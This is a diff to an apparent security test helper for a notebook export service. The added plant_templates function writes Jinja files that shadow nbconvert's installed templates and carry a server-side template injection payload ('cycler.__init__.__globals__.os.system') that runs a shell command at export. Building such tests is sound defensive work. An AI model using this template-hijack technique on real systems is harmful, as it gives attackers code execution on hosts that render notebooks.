@@ -13,7 +13,10 @@ the control page shows the HTML.
 
 from __future__ import annotations
 
+import json
+import shlex
 from collections.abc import Callable
+from pathlib import Path
 from typing import Any
 
 from nbformat import v4
@@ -95,3 +98,43 @@ def attack_notebook(url: Callable[[str], str] = lambda name: f"{UNREACHABLE}/{na
     raw.metadata["raw_mimetype"] = "text/html"
     nb.cells = [markdown, code, raw]
     return nb
+
+
+#: what a planted template writes into the export, so a test sees it was used
+PLANTED_TEXT = "PLANTED-TEMPLATE-RAN"
+
+
+def plant_templates(folder: Path, marker: Path, conf: bool = True) -> list[Path]:
+    """What a cell writes into its workspace to have the host run its code at
+    export: a folder named after every template nbconvert has installed
+    (``lab``, ``reveal``, ``python``, ``script``, ``base``...), each file of
+    the installed one replaced by Jinja that runs a shell command appending to
+    ``marker`` (templates are Jinja run unsandboxed), and a ``conf.json``
+    naming a preprocessor in ``this`` (unless not ``conf``: nbconvert imports
+    it, the Zen of Python is printed, and fails). nbconvert searched the
+    working directory first. Returns the folders made."""
+    from jupyter_core.paths import jupyter_path
+
+    payload = (
+        "{%- set _ = cycler.__init__.__globals__.os.system('echo template-ran >> "
+        + shlex.quote(str(marker))
+        + "') -%}"
+        + PLANTED_TEXT
+        + "\n"
+    )
+    made: list[Path] = []
+    for root in map(Path, jupyter_path("nbconvert", "templates")):
+        if not root.is_dir():
+            continue
+        for installed in sorted(root.iterdir()):
+            planted = folder / installed.name
+            if not installed.is_dir() or planted in made:
+                continue
+            planted.mkdir(exist_ok=True)
+            made.append(planted)
+            for file in installed.iterdir():
+                if file.suffix in (".j2", ".tpl"):
+                    (planted / file.name).write_text(payload)
+            if conf:
+                (planted / "conf.json").write_text(json.dumps({"preprocessors": {"00": {"type": "this.planted"}}}))
+    return made
